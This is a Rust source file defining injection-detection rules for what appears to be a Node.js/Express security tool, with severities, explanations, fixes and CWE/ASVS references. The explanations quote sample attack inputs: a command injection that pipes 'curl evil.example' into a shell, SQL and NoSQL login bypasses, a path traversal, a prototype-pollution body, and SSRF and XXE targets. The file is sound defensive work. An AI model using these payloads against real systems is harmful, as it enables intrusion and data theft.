//! Data from the request that becomes code, a query, a path, or a field.

use crate::rule::rules;

rules! { "injection";
    COMMAND = "injection.command" {
        title: "Shell command is built with data from the request",
        severity: Critical,
        status: Stable,
        why:
            "`; curl evil.example | sh` in a file name or host name runs as the user of the service: the \
             machine, its secrets and its network are the attacker's.",
        fix:
            "Use `execFile('convert', [file, out])` without a shell, with `--` before data that could begin \
             with a dash, and test the value against a list or a pattern. `exec`, `execSync` and `{ shell: \
             true }` take constants alone.",
        references: [Mission(StrongLoop), Mission(ExpressGuide), Cwe(78), Asvs("1.2.5")],
    }

    DESERIALIZE = "injection.deserialize" {
        title: "Data is deserialised by something that can run code",
        severity: Critical,
        status: Stable,
        why:
            "`node-serialize` and the like turn text into functions and call them: one cookie or body runs \
             anything on the server.",
        fix:
            "Use `JSON.parse` and check the shape; js-yaml from version 4 on has a safe `load`, before that \
             `safeLoad`. Remove `node-serialize` and `serialize-to-js`: there is no safe way to use them on \
             outside data.",
        references: [Modern, Cwe(502), Asvs("1.5.2")],
    }

    EVAL = "injection.eval" {
        title: "Data from the request is evaluated as code",
        severity: Critical,
        status: Stable,
        why:
            "`eval`, `new Function`, `setTimeout` with text, `vm` and expression libraries run what the \
             client wrote with all the rights of the process; `vm` is no sandbox, and its escapes are well \
             known.",
        fix:
            "Replace it by `JSON.parse`, a table of allowed operations, or a parser for the one grammar \
             needed. Where foreign code must run, use another process or container without rights.",
        references: [Modern, Cwe(95), Asvs("1.3.2")],
    }

    HOST_HEADER = "injection.host-header" {
        title: "Host is believed without a check",
        severity: Medium,
        status: Stable,
        why:
            "A password reset that builds its link from `req.get('host')` mails the victim a link to the \
             attacker's server, with the token in it; a cache keyed by address alone keeps the poisoned page \
             for all.",
        fix:
            "Take the address from the configuration: `process.env.PUBLIC_URL`, and refuse hosts that are \
             not yours. The gate checks Host by its grammar and against the target, and writes \
             X-Forwarded-Host itself.",
        references: [Modern, Cwe(807), Asvs("4.1.3"), Rfc(9110)],
    }

    HPP = "injection.hpp" {
        title: "Parameter given twice becomes a list where text is expected",
        severity: Low,
        status: Stable,
        why:
            "`?id=1&id=2` makes `req.query.id` an array: string methods throw, and a test such as `includes` \
             or a length limit means something else than it says.",
        fix:
            "Check the type: `if (typeof req.query.id !== 'string') return res.sendStatus(400)`, or a \
             schema. The `hpp` package does nothing for the query in Express 5, where `req.query` is \
             computed anew at each access.",
        references: [Modern, Cwe(235), Asvs("15.3.7")],
    }

    LOG = "injection.log" {
        title: "Data from the request is written to the log as it is",
        severity: Low,
        status: Preview,
        why:
            "A line break in a user name forges log lines, and control characters change what the operator's \
             terminal shows: traces are covered, or laid to somebody else.",
        fix:
            "Log JSON: `logger.info({ user: name }, 'login failed')` with `pino` or `winston` escapes what \
             `console.log` writes through.",
        references: [Modern, Cwe(117), Asvs("16.4.1")],
    }

    MASS_ASSIGNMENT = "injection.mass-assignment" {
        title: "Whole body is stored in a model",
        severity: Medium,
        status: Stable,
        why:
            "`User.create(req.body)` also takes `role: 'admin'`, `verified: true` or `balance`, fields that \
             the form never showed.",
        fix:
            "Name the fields: `User.create({ name: req.body.name, email: req.body.email })`, or take what a \
             schema with `additionalProperties: false` let through.",
        references: [Mission(Safeguard), Cwe(915), Asvs("15.3.3")],
    }

    NOSQL = "injection.nosql" {
        title: "Operator from the request reaches a NoSQL query",
        severity: High,
        status: Stable,
        why:
            "`{\"password\": {\"$ne\": null}}` in place of text matches every user: login without a \
             password. `$where` runs JavaScript in the database.",
        fix:
            "Make it text, `User.findOne({ name: String(req.body.name) })`, or check the body with a schema; \
             in mongoose set `mongoose.set('sanitizeFilter', true)`. `$where` takes constants alone.",
        references: [Modern, Cwe(943), Asvs("1.2.4")],
    }

    OPEN_REDIRECT = "injection.open-redirect" {
        title: "Redirect goes where the request says",
        severity: Medium,
        status: Stable,
        why:
            "A link that begins with your name ends on the attacker's copy of your login page; with single \
             sign-on the redirect hands out the token as well.",
        fix:
            "Redirect to names or paths from a list. Parse what must stay free: `new URL(target, \
             base).origin === base` with your own origin as `base`; `startsWith('/')` lets `//evil.example` \
             and `/` with a backslash through.",
        references: [Mission(ExpressGuide), Modern, Cwe(601), Asvs("3.7.2")],
    }

    PATH_TRAVERSAL = "injection.path-traversal" {
        title: "File path is built from the request",
        severity: High,
        status: Stable,
        why: "`../../.env` or `%2e%2e%2f` reads configuration, keys and source, or overwrites them.",
        fix:
            "Use `res.sendFile(name, { root: '/srv/files' })`, which stays below its root, or an id that a \
             table maps to a file. Otherwise compare after `path.resolve`: `full.startsWith(root + \
             path.sep)`. The gate resolves dot segments before the application sees the path; the query and \
             the body it does not touch.",
        references: [Modern, Cwe(22), Asvs("5.3.2")],
    }

    PROTO_POLLUTION = "injection.proto-pollution" {
        title: "Object from the request is merged into another",
        severity: High,
        status: Stable,
        why:
            "`{\"__proto__\": {\"isAdmin\": true}}` in a deep merge changes every object of the process: \
             tests answer yes, options appear that nobody set, up to running commands.",
        fix:
            "Copy named fields from a checked body in place of `merge(target, req.body)`, use `Map` or \
             `Object.create(null)` for dictionaries, and start with `node --disable-proto=delete`. \
             `Object.assign` is shallow and hands the key on to whatever merges later.",
        references: [Mission(Safeguard), Cwe(1321), Asvs("15.3.6")],
    }

    REDOS = "injection.redos" {
        title: "Regular expression takes exponential or polynomial time",
        severity: High,
        status: Stable,
        why:
            "A few dozen characters keep the one event loop busy for minutes: nobody else is served. \
             `safe-regex`, which the old checklist names, misses many such patterns and blames harmless \
             ones.",
        fix:
            "Rewrite it so that no two parts can match the same text in two ways (`(a+)+` is `a+`), limit \
             the length first, or use `re2`. `portcullis audit` shows the text that makes it slow.",
        references: [Mission(StrongLoop), Mission(ExpressGuide), Cwe(1333), Asvs("1.3.12")],
    }

    REGEX_INPUT = "injection.regex-input" {
        title: "Regular expression is built from the request",
        severity: Medium,
        status: Stable,
        why:
            "The client writes the pattern, and so one that takes for ever, or one that matches what it \
             should not.",
        fix:
            "Use `text.includes(query)` for searching, or escape: `new RegExp(RegExp.escape(query))` \
             (Node.js 24; before that `escape-string-regexp`). Where users may write patterns, use `re2`.",
        references: [Mission(StrongLoop), Mission(ExpressGuide), Cwe(1333), Asvs("1.2.9")],
    }

    RENDER_OPTIONS = "injection.render-options" {
        title: "Object from the request is given to `res.render` as options",
        severity: High,
        status: Stable,
        why:
            "View engines take settings from the same object: `settings[view options]` in EJS has run \
             commands, `layout` in Handlebars reads files.",
        fix:
            "Name the values: `res.render('page', { title: req.query.title })`, never `res.render('page', \
             req.query)` or `{ ...req.body }`.",
        references: [Modern, Cwe(73), Asvs("1.3.7")],
    }

    RESPONSE_SPLITTING = "injection.response-splitting" {
        title: "Header field is built with line breaks from the request",
        severity: Medium,
        status: Stable,
        why:
            "A CR LF in a value ends the field and begins the next: a cookie of the attacker's, another \
             body, a poisoned cache. Node refuses them in `setHeader`, and answers 500; raw sockets, old \
             proxies and HTTP/2 in between do not.",
        fix:
            "Encode what goes into a field, `encodeURIComponent(value)`, and never write heads to a socket \
             by hand. The gate refuses fields with CR, LF or NUL, in HTTP/2 as well, and from the \
             application too.",
        references: [Modern, Cwe(113), Asvs("4.2.4"), Rfc(9110)],
    }

    SQL = "injection.sql" {
        title: "SQL is built from strings",
        severity: Critical,
        status: Stable,
        why:
            "`' OR 1=1 --` reads, changes or deletes the whole database, and often reaches the machine \
             behind it.",
        fix:
            "Give values as parameters: `db.query('SELECT * FROM users WHERE id = $1', [id])`; in Sequelize \
             `replacements`, in Prisma the tagged `$queryRaw`, in Knex bindings. Names of columns and sort \
             orders come from a list.",
        references: [Mission(StrongLoop), Mission(ExpressGuide), Cwe(89), Asvs("1.2.4")],
    }

    SSRF = "injection.ssrf" {
        title: "Server fetches an address from the request",
        severity: High,
        status: Stable,
        why:
            "The server reaches what the client cannot: the cloud's metadata with its keys \
             (169.254.169.254), databases and admin pages of the internal network.",
        fix:
            "Choose the host from a list and let the request give only an encoded part of the path. Where \
             any host must do, resolve the name first, refuse private addresses, connect to the checked \
             address, and set `redirect: 'error'`.",
        references: [Modern, Cwe(918), Asvs("1.3.6")],
    }

    SSTI = "injection.ssti" {
        title: "Template is compiled from the request",
        severity: Critical,
        status: Stable,
        why:
            "`{{constructor...}}` or `<%= process... %>` in the text becomes code on the server: the \
             attacker runs commands.",
        fix:
            "Keep templates in files and give the data as values: `res.render('mail', { name })`, never \
             `ejs.render(req.body.template)`. Templates that users write need a language without code, such \
             as Mustache or LiquidJS.",
        references: [Modern, Cwe(1336), Asvs("1.3.7")],
    }

    XSS_REFLECTED = "injection.xss-reflected" {
        title: "Data from the request is sent back as HTML",
        severity: High,
        status: Stable,
        why:
            "A link with a script in it runs that script in the name of whoever follows it, with their \
             session.",
        fix:
            "Send `res.json(...)`, or `res.type('text/plain').send(text)`, or a template that escapes; \
             `res.send` of text means HTML. The `header` guard's policy stops most scripts that slip \
             through, which softens the hole and does not close it.",
        references: [Mission(StrongLoop), Mission(ExpressGuide), Cwe(79), Asvs("1.2.1")],
    }

    XSS_TEMPLATE = "injection.xss-template" {
        title: "Template writes data without escaping it",
        severity: High,
        status: Stable,
        why:
            "A stored name or comment with a script in it runs for everyone who sees the page, \
             administrators included.",
        fix:
            "Use the escaping form: `<%= %>` in EJS, `#{}` in Pug, `{{ }}` in Handlebars, `autoescape: true` \
             in Nunjucks. HTML that users may write goes through `DOMPurify` or `sanitize-html` first. The \
             `header` guard's policy softens the hole and does not close it.",
        references: [Mission(StrongLoop), Mission(ExpressGuide), Cwe(79), Asvs("1.2.1")],
    }

    XXE = "injection.xxe" {
        title: "XML parser resolves external entities",
        severity: High,
        status: Stable,
        why:
            "A document that names `file:///etc/passwd` or an internal address as an entity gets its content \
             back; nested entities fill the memory.",
        fix:
            "Leave out `noent: true` and `XML_PARSE_NOENT`, and refuse documents with a DOCTYPE; \
             `fast-xml-parser` and `xml2js` do not load external entities.",
        references: [Modern, Cwe(611), Asvs("1.5.1")],
    }

    ZIP_SLIP = "injection.zip-slip" {
        title: "Archive is unpacked without a check of its paths",
        severity: High,
        status: Stable,
        why:
            "An entry called `../../app/server.js` overwrites the application, and the next start runs the \
             attacker's code; a symbolic link in the archive does the same.",
        fix:
            "Compare each path before writing: `path.resolve(dir, entry).startsWith(dir + path.sep)`, skip \
             links, and limit number and unpacked size. Keep `unzipper`, `tar` and `adm-zip` up to date.",
        references: [Modern, Cwe(22), Asvs("5.3.3")],
    }
}
